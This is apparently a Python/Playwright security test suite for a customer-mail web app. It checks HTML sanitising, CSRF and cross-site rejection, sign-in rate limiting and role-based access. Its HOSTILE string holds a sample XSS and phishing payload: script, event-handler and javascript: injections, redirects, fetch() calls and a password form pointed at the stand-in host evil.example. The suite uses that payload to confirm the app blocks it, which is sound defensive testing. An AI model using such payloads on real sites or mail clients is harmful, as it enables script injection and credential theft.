"""Strangers get nothing: hostile mails do nothing, forms from elsewhere do nothing, wrong passwords wait, no role sees no data."""

from __future__ import annotations

import re
import subprocess
import time
from email.message import EmailMessage
from smtplib import SMTP
from urllib.parse import urlsplit

import httpx
from playwright.sync_api import expect

from producers.workspace.harmless import harmless
from tests.embedded import Running
from tests.workspace.conftest import Windows
from tests.workspace.desk import new_customer
from tests.workspace.test_access import axe, barriers

__all__ = ["axe"]

HOSTILE = """<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body{background:url(https://evil.example/css)}</style><link rel="stylesheet" href="https://evil.example/l.css"></head>
<body onload="parent.document.title='owned'"><script>fetch('https://evil.example/s');top.location='https://evil.example/'</script>
<p style="position:fixed;background:url(https://evil.example/p)">Dear friend</p>
<img src="https://evil.example/pixel.png" onerror="alert(1)">
<svg onload="alert(2)"><image href="https://evil.example/svg"/></svg>
<form action="https://evil.example/f"><input name="password"><button>ok</button></form>
<iframe src="https://evil.example/frame"></iframe><a href="javascript:alert(3)">click</a><video src="https://evil.example/v"></video></body></html>"""


def test_R18_a_mail_full_of_hostile_html_does_nothing(windows: Windows) -> None:
    customer, address = new_customer(windows.product, "Mallory")
    anna = windows.agent("anna")
    number = anna.compose(customer)
    anna.write("Hello", "Hello Mallory")
    anna.send()
    expect(anna.page.locator(".fate.accepted")).to_be_visible()
    _answer(windows.product, number, address)
    left: list[str] = []
    own = urlsplit(windows.product.url).netloc
    anna.page.on("request", lambda request: left.append(request.url) if urlsplit(request.url).netloc != own else None)
    anna.page.on("dialog", lambda dialog: left.append(dialog.message))
    anna.page.locator("#ongoing a", has_text="Mallory").click()
    anna.page.get_by_text("As it was formatted").click()
    frame = anna.page.frame_locator("iframe")
    expect(frame.get_by_text("Dear friend")).to_be_visible()
    expect(frame.locator("script, form, iframe, svg, video, style, [onload], [onerror], img[src]")).to_have_count(0)
    frame.get_by_text("click").click()
    expect(anna.page).to_have_title(re.compile("Postroom"))
    assert left == []


def test_pictures_from_elsewhere_are_shown_only_when_asked_for() -> None:
    mail = '<p>Hi</p><img src="https://shop.example/a.png" alt="a">'
    assert harmless(mail).blocked == 1 and "shop.example" not in harmless(mail).html
    assert 'src="https://shop.example/a.png"' in harmless(mail, remote_images=True).html


def test_R2_a_form_from_elsewhere_and_one_without_its_token_do_nothing(windows: Windows) -> None:
    anna = windows.agent("anna")
    cookies = {each["name"]: each["value"] for each in anna.page.context.cookies()}
    with httpx.Client(base_url=windows.product.url, cookies=cookies) as stranger:
        page = stranger.get("/list/my")
        token = re.search(r'data-csrf="([^"]+)"', page.text)
        assert token is not None
        before = stranger.get("/search?q=ada").text.count("IMS")
        assert stranger.post("/customers/ada/compose", data={"csrf": "guessed"}).status_code == 403
        elsewhere = stranger.post(
            "/customers/ada/compose", data={"csrf": token[1]}, headers={"Sec-Fetch-Site": "cross-site"}
        )
        assert elsewhere.status_code == 403
        assert stranger.get("/search?q=ada").text.count("IMS") == before
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy
    cookie = next(each for each in anna.page.context.cookies() if each["name"] == "postroom_session")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Lax"


def test_R2_wrong_passwords_wait_and_say_nothing(product: Running) -> None:
    answers = []
    with httpx.Client(base_url=product.url) as stranger:
        token = re.search(r'name="csrf" value="([^"]+)"', stranger.get("/sign-in").text)
        assert token is not None
        for who in ("nobody", "nobody", "nobody", "nobody", "nobody", "nobody"):
            answers.append(stranger.post("/sign-in", data={"csrf": token[1], "name": who, "password": "wrong"}))
    assert [answer.status_code for answer in answers] == [401, 401, 401, 401, 401, 429]
    assert int(answers[-1].headers["Retry-After"]) > 0
    assert "do not belong together" in answers[0].text
    turned_away = httpx.get(product.url + "/list/my", headers={"Accept": "text/html"})
    assert turned_away.headers["location"].startswith("/sign-in")
    assert httpx.get(product.url + "/live").status_code == 401


def test_R2_without_the_role_there_is_a_clear_page_and_a_new_password_ends_old_sessions(
    windows: Windows, axe: str
) -> None:
    _set_password(windows.product, "crm", "a password of the crm")
    page = windows.page()
    page.goto("/sign-in")
    page.get_by_label("Name").fill("crm")
    page.get_by_label("Password").fill("a password of the crm")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="No access")).to_be_visible()
    assert barriers(page, axe) == []
    assert "Ada" not in page.content()
    _set_password(windows.product, "crm", "another password")
    page.goto("/list/my")
    expect(page.get_by_role("heading", name="Postroom")).to_be_visible()
    expect(page.get_by_label("Password")).to_be_visible()


def _set_password(product: Running, who: str, password: str) -> None:
    done: subprocess.CompletedProcess[str] = product.cli("password", "set", who, stdin=password + "\n")
    assert done.returncode == 0, done.stderr


def _answer(product: Running, number: str, address: str) -> None:
    with product.client("anna") as anna:
        sent = anna.get(f"/v1/interactions/{number}").json()["mails"][0]
        raw = anna.get(f"/v1/mails/{sent['id']}/raw").text
    reply_to = re.search(r"^Reply-To: (\S+)", raw, re.MULTILINE | re.IGNORECASE)
    assert reply_to is not None
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"], mail["Message-ID"] = (
        address,
        reply_to[1],
        "Re: Hello",
        f"<{time.time()}@x>",
    )
    mail.set_content("Dear friend in plain words")
    mail.add_alternative(HOSTILE, subtype="html")
    with SMTP("127.0.0.1", product.inbound_port) as line:
        line.send_message(mail)
